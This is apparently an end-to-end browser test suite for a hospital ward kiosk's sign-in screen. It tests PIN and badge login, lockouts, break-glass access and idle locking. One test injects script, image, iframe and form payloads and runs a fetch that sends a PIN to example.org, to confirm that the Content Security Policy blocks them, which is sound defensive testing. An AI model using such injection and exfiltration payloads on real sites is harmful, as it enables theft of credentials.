import { AxeBuilder } from '@axe-core/playwright';
import type { Page } from 'playwright-core';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { readBack } from '../../main/paper/read-back.ts';
import { pageText } from '../../main/paper/read-text.ts';
import { createClient } from '../../renderer/client.ts';
import { buildRenderer, openBrowser, openScreen, SIZES } from '../renderer/support/screen.ts';
import { overHttp } from '../support/browser-session.ts';
import { badgeOf, openGuarded, PIN, SLIP_PIN, type GuardedKiosk } from '../support/guarded-kiosk.ts';
import { needs } from '../support/needs.ts';
import { scan } from '../support/scan.ts';

/** Where pictures are kept for somebody to look at; without it none are taken. */
const PICTURES = process.env['KIOSK_PICTURES'];

describe.skipIf(needs.chromium.missing)('people at the door, in Chromium', { timeout: 300_000 }, () => {
  let guarded: GuardedKiosk;
  let page: Page;
  let complaints: string[];
  let rendererFolder: string;
  let browser: Awaited<ReturnType<typeof openBrowser>>;
  const endings: (() => Promise<void> | void)[] = [];

  beforeAll(async () => {
    const built = await buildRenderer();
    rendererFolder = built.folder;
    endings.unshift(built.remove);
    guarded = await openGuarded({ renderer: rendererFolder, lockAfterSeconds: 3600 });
    endings.unshift(guarded.close);
    browser = await openBrowser();
    endings.unshift(browser.close);
    browser.context.setDefaultTimeout(0);
    ({ page, complaints } = await openScreen(browser.context, guarded.host.anotherUrl()));
  }, 600_000);
  afterAll(async () => {
    for (const end of endings) await end();
  });

  const user = () => page.getByLabel('User name or badge');
  const pin = () => page.getByLabel('PIN', { exact: true });
  const ward = () => page.locator('.ward-row').first().waitFor();
  const door = () => page.locator('main.door').waitFor();
  const lock = async () => {
    await page.getByRole('button', { name: 'Lock, or let somebody else sign in' }).click();
    await door();
  };
  async function enter(name: string, typed: string): Promise<void> {
    await user().fill(name);
    await pin().fill(typed);
    await page.keyboard.press('Enter');
  }
  async function picture(name: string): Promise<void> {
    if (!PICTURES) return;
    mkdirSync(PICTURES, { recursive: true });
    for (const size of SIZES) {
      await page.setViewportSize(size);
      await page.screenshot({ path: join(PICTURES, `${name}-${size.width}.png`) });
    }
    await page.setViewportSize(SIZES[0]!);
  }

  test('the door shows the ward, the EHR and the copy’s age, and no patient', async () => {
    await door();
    const shown = await page.locator('body').innerText();
    expect(shown).toContain('4 West');
    expect(shown).toMatch(/Sign in/);
    expect(await page.locator('.ward-row').count()).toBe(0);
    const nurse = await guarded.signedIn('nurse');
    const rows = await nurse.call.getWard({});
    const html = await page.content();
    for (const row of rows.ok ? rows.value.rows : expect.fail('no ward')) {
      expect(html).not.toContain(row.name);
      expect(html).not.toContain(row.mrn);
    }
    await nurse.call.signOut({});
    await picture('door');
  });

  test('the door is accessible, both ways in', async () => {
    expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([]);
    await page.getByRole('button', { name: 'use the sealed envelope' }).click();
    expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([]);
    await picture('door-envelope');
    await page.getByRole('button', { name: 'Back to signing in' }).click();
  });

  test('on the door nothing foreign runs, loads, frames or sends', async () => {
    const { page: attacked } = await openScreen(browser.context, guarded.host.anotherUrl());
    await attacked.locator('main.door').waitFor();
    const tried = await attacked.evaluate(async () => {
      const refused: string[] = [];
      document.addEventListener('securitypolicyviolation', event => refused.push(event.effectiveDirective));
      const add = (html: string) => document.body.insertAdjacentHTML('beforeend', html);
      add('<img id="evil" src="https://example.org/x.png">');
      add('<img src="/none.png" onerror="window.ran = true">');
      add('<iframe id="evil-frame" src="https://example.org/"></iframe>');
      add('<form id="evil-form" action="https://example.org/" method="post"><input name="pin" value="739164"></form>');
      const script = document.createElement('script');
      script.textContent = 'window.ran = true';
      document.body.append(script);
      document.querySelector<HTMLFormElement>('#evil-form')!.submit();
      await fetch('https://example.org/?pin=739164').catch(() => refused.push('fetch'));
      await new Promise(done => setTimeout(done, 300));
      // By now this is no longer what the developer tools evaluate, which may always do that.
      try {
        (0, eval)('window.ran = true');
      } catch {
        refused.push('eval');
      }
      return { refused, ran: 'ran' in window };
    });
    expect(tried.ran).toBe(false);
    for (const directive of [
      'img-src',
      'script-src-attr',
      'script-src-elem',
      'frame-src',
      'form-action',
      'connect-src',
      'eval',
      'fetch',
    ])
      expect(tried.refused).toContain(directive);
    await attacked.close();
  });

  test('a nurse signs in with nothing but the keyboard: name, Enter, PIN, Enter', async () => {
    await user().focus();
    await page.keyboard.type('nurse');
    await page.keyboard.press('Enter');
    await page.keyboard.type(PIN);
    await page.keyboard.press('Enter');
    await ward();
    expect(await page.locator('.banner').innerText()).toContain('nurse on duty');
    expect(await page.content()).not.toContain(PIN);
    await picture('ward');
    await lock();
  });

  test('a badge is scanned into the name, and the scanner’s Enter leads on to the PIN', async () => {
    await user().focus();
    await scan(page, badgeOf('pharmacist'));
    expect(await user().inputValue()).toBe(badgeOf('pharmacist'));
    await page.waitForFunction(() => (document.activeElement as HTMLInputElement).type === 'password');
    await page.keyboard.type(PIN);
    await page.keyboard.press('Enter');
    await ward();
    expect(await page.locator('.banner').innerText()).toContain('pharmacist on duty');
  });

  test('the next person begins at the ward, whoever comes back goes on where they were', async () => {
    const { origin } = new URL(page.url());
    await page.locator('.ward-row').first().click();
    await page.locator('header.strip').first().waitFor();
    const patient = page.url();
    await lock();
    expect(await page.locator('header.strip').count()).toBe(0);
    await enter('pharmacist', PIN);
    await page.locator('header.strip').first().waitFor();
    await lock();
    await enter('nurse', PIN);
    await ward();
    expect(page.url()).toBe(`${origin}/#/ward`);
    const seen = (await guarded.audit()).filter(({ what }) => what === 'patient-opened').map(({ who }) => who?.user);
    expect(new Set(seen)).toEqual(new Set(['pharmacist']));
    await lock();
    await page.goto(patient);
    await page.reload();
    await door();
    await enter('nurse', PIN);
    await ward();
    await lock();
  });

  test('wrong PINs make one wait seconds, said as they pass, and then the right one works', async () => {
    for (let i = 0; i < 3; i++) {
      await enter('clerk', '271828');
      await page.getByText('User name or PIN is wrong.').waitFor();
      expect(await pin().inputValue()).toBe('');
    }
    await enter('clerk', PIN);
    await page.getByText(/wait 2 s\./).waitFor();
    expect(await page.locator('.door-form button[type=submit]').isDisabled()).toBe(true);
    await picture('door-wait');
    guarded.pass(2);
    await page.locator('.door-form button[type=submit]:not([disabled])').waitFor();
    await enter('clerk', PIN);
    await ward();
    await lock();
  });

  test('the PIN of a slip opens nothing until its person has chosen another', async () => {
    await enter('newcomer', SLIP_PIN);
    await page.getByRole('heading', { name: 'Choose your own PIN' }).waitFor();
    expect(await page.locator('.ward-row').count()).toBe(0);
    await picture('door-new-pin');
    const choose = async (chosen: string, again: string) => {
      await page.getByLabel('New PIN', { exact: true }).fill(chosen);
      await page.getByLabel('New PIN once more').fill(again);
      await page.keyboard.press('Enter');
    };
    await choose('618033', '618034');
    await page.getByText('The two new PINs are not the same.').waitFor();
    await choose('123456', '123456');
    await page.getByText(/easy to guess/).waitFor();
    await choose('618033', '618033');
    await ward();
    await lock();
  });

  test('IT sees how the kiosk is, and no patient', async () => {
    await enter('administrator', PIN);
    await page.getByRole('heading', { level: 1, name: 'System' }).waitFor();
    expect(await page.locator('.ward-row').count()).toBe(0);
    await picture('administrator');
    for (const address of ['', '#/print', '#/patient/x']) {
      await page.goto(`${new URL(page.url()).origin}/${address}`);
      await page.locator('main.main').waitFor();
      expect(await page.locator('.ward-row').count()).toBe(0);
    }
    await lock();
  });

  test('the envelope opens the ward, loudly on every page and on the paper, and a new one is asked for', async () => {
    await page.getByRole('button', { name: 'use the sealed envelope' }).click();
    await page.getByLabel('Code from the envelope').fill(guarded.code.toLowerCase().replaceAll('-', ' '));
    await page.getByLabel('Your full name').fill('Agnes Brown RN');
    await page.getByLabel('Why', { exact: true }).fill('Nobody of this shift is enrolled');
    await page.getByRole('button', { name: 'Break the glass and open the ward' }).click();
    await ward();
    const strip = page.locator('.break-glass');
    expect(await strip.innerText()).toContain('BREAK-GLASS: Agnes Brown RN. Nobody of this shift is enrolled.');
    await picture('break-glass');
    await page.goto(`${new URL(page.url()).origin}/#/system`);
    await page
      .getByText(/make a new envelope/)
      .first()
      .waitFor();
    expect(await strip.isVisible()).toBe(true);
    await picture('break-glass-system');

    const text = await printed();
    expect(text).toContain('AgnesBrownRN(break-glass)');
    await lock();
    expect(await page.locator('.door-state').innerText()).toMatch(/It was opened\. IT: print a new one/);
    await picture('door-envelope-used');
  });

  /** What stands on the first patient's summary when it is printed from this window, without blanks. */
  async function printed(): Promise<string> {
    const [cookie] = await page.context().cookies();
    const { origin } = new URL(page.url());
    const call = createClient(overHttp({ origin, cookie: `${cookie!.name}=${cookie!.value}` }));
    const shown = await call.getWard({});
    const { patientId } = shown.ok ? shown.value.rows[0]! : expect.fail('no ward');
    const pack = await call.startPack({ patients: [patientId], forms: ['summary'], from: null, span: 'hours', hours: 8 });
    if (!pack.ok) return expect.fail(pack.error.why);
    for (;;) {
      const progress = await call.getPack(pack.value);
      if (progress.ok && progress.value.state === 'done') break;
      await new Promise(resolve => setTimeout(resolve, 100));
    }
    const pdf = await call.getPackPdf({ ...pack.value, patientId });
    if (!pdf.ok) return expect.fail(pdf.error.why);
    return (await readBack(Buffer.from(pdf.value.base64, 'base64')))
      .map(pageText)
      .join('\n')
      .replaceAll(/[^\S\n]/g, '');
  }

  test('nothing in all of that made the browser complain', () => {
    expect(complaints.filter(line => !/401|403/.test(line))).toEqual([]);
  });

  test('a kiosk that nobody touches says that it locks itself, and does', async () => {
    const short = await openGuarded({ renderer: rendererFolder, lockAfterSeconds: 24 });
    endings.unshift(short.close);
    ({ page, complaints } = await openScreen(browser.context, short.host.anotherUrl()));
    await door();
    await enter('nurse', PIN);
    await ward();
    await page.getByText(/This kiosk locks itself in \d+ s/).waitFor();
    await picture('locks-soon');
    await page.keyboard.press('Shift');
    await page.locator('.locks-soon').waitFor({ state: 'detached' });
    await page.getByText(/This kiosk locks itself in \d+ s/).waitFor();
    await door();
    expect(await page.locator('.ward-row').count()).toBe(0);
    const entries = await short.audit();
    expect(entries.find(({ what }) => what === 'locked')).toMatchObject({ details: 'idle', who: { user: 'nurse' } });
  });
});
